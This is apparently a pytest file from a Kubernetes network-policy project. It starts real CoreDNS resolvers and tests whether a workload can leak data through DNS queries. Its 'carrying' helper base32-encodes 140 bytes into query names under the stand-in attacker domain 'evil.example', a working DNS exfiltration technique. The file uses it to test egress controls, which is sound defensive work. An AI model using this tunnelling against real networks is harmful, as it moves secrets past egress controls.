"""What still gets out by name: a resolver asks the owner of a name, and the question itself can carry something.

Measured on real CoreDNS: one that stands for the cluster's, one that is the attacker's own server of `evil.example`.
"""

from __future__ import annotations

import base64
import secrets
import socket
import struct
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

import pytest

from garrison import render
from garrison.cluster import Cluster
from harness.build import binary
from harness.ports import free_port
from servers.proxies import eventually, wait_for
from unit.estates import shop_app
from unit.netmodel import Pod, allowed, pods

WORKLOAD, GATEWAY = "127.0.0.3", "127.0.0.2"  # as whom a question comes
LONGEST = 253  # letters of a name (RFC 1035 section 2.3.4)


def question(name: str, number: int) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def asked(port: int, name: str, source: str) -> int:
    """The response code: 0 where the name was answered, 3 where there is none, 5 where nobody answers for it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind((source, 0))
        line.settimeout(5)
        line.sendto(question(name, secrets.randbelow(65536)), ("127.0.0.1", port))
        return line.recv(4096)[3] & 15


def carrying(data: bytes) -> str:
    """A name of the attacker's, made of as much data as one question takes."""
    text = base64.b32encode(data).decode().rstrip("=").lower()
    name = ".".join([*(text[i : i + 63] for i in range(0, len(text), 63)), "evil.example"])
    assert len(name) <= LONGEST
    return name


@contextmanager
def resolver(folder: Path, name: str, corefile: str) -> Iterator[Path]:
    file, log = folder / name, folder / f"{name}.log"
    file.write_text(corefile)
    with log.open("wb") as out:
        process = subprocess.Popen([binary("coredns"), "-conf", str(file)], stdout=out, stderr=out)
    try:
        wait_for(int(corefile.partition(":")[2].partition(" ")[0]), process, log)
        yield log
    finally:
        process.terminate()
        process.wait(10)


@pytest.fixture(params=["as clusters have it", "forwarding for the way out alone"])
def cluster(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[bool, int, Path]]:
    """Whether it is open to everybody, its port, and what the attacker hears."""
    own, theirs = free_port(), free_port()
    within = "hosts {\n 10.96.0.7 catalog.shop.svc.cluster.local\n fallthrough\n }"
    forward = f"forward . 127.0.0.1:{theirs}"
    everybody = f".:{own} {{\n bind 127.0.0.1\n {within}\n {forward}\n }}\n"
    view = f"view out {{\n expr incidr(client_ip(), '{GATEWAY}/32')\n }}"
    narrow = f".:{own} {{\n {view}\n bind 127.0.0.1\n {within}\n {forward}\n }}\n"
    narrow += f".:{own} {{\n bind 127.0.0.1\n {within}\n }}\n"
    open_to_all = request.param == "as clusters have it"
    answer = 'template IN A {\n answer "{{ .Name }} 60 IN A 192.0.2.1"\n }'
    attackers = f".:{theirs} {{\n bind 127.0.0.1\n log\n {answer}\n }}\n"
    with ExitStack() as stack:
        heard = stack.enter_context(resolver(tmp_path, "attacker", attackers))
        stack.enter_context(resolver(tmp_path, "cluster", everybody if open_to_all else narrow))
        yield open_to_all, own, heard


def test_what_a_workload_can_ask_and_what_a_question_carries(cluster: tuple[bool, int, Path]) -> None:
    open_to_all, port, heard = cluster
    secret = carrying(secrets.token_bytes(140))
    assert asked(port, "catalog.shop.svc.cluster.local", WORKLOAD) == 0, "who is declared is found"
    assert asked(port, "api.psp.example", GATEWAY) == 0, "the way out finds its hosts"
    found = asked(port, secret, WORKLOAD)
    if open_to_all:
        assert found == 0
        eventually(lambda: secret in heard.read_text(), "140 bytes of a workload's are at the attacker's server")
    else:
        assert found != 0
        assert asked(port, carrying(b"x" * 9), GATEWAY) == 0, "which would have heard it"
        eventually(lambda: carrying(b"x" * 9) in heard.read_text(), "as it hears of the way out's own questions")
        assert secret not in heard.read_text()


def test_a_workload_reaches_the_clusters_resolver_and_no_other() -> None:
    """The network knows pods: it cannot tell an application from its sidecar, which has to find the callees."""
    manifests = render(shop_app().graph(), Cluster())
    orders = pods(manifests)["shop", "orders"]
    resolvers = {
        "the cluster's": Pod.named("kube-system", **{"k8s-app": "kube-dns"}),
        "another in the cluster": Pod.named("elsewhere", app="dns"),
        "one outside": Pod("", {}, {}, address="93.184.216.34"),
    }
    reached = {name for name, pod in resolvers.items() if allowed(manifests, orders, pod, 53, "UDP")}
    assert reached == {"the cluster's"}
